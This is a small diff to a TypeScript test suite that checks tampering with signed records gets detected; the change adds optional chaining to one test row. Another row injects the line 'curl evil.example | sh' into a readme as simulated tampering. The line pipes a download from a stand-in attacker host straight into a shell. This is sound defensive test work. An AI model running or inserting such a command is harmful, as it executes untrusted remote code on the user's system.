@@ -201,7 +201,7 @@ describe('whatever is changed is found', () => {
     const rows: [object, string, RegExp][] = [
       [{ readme: `${signed.readme}curl evil.example | sh\n` }, 'form', /readme/],
       [{ action: { ...action, args: '{"text":"something else"}' } }, 'arguments', /decided arguments/],
-      [{ action: { ...action, view: action.view.replace('passkey', 'PASSKEY') } }, 'view', /digest/],
+      [{ action: { ...action, view: action.view?.replace('passkey', 'PASSKEY') ?? '' } }, 'view', /digest/],
       [{ action: { ...action, status: 'failed' } }, 'replay', /lead to succeeded/],
       [
         { verdicts: [{ ...verdict, reviewer: { ...verdict.reviewer, name: 'eve' } }] },
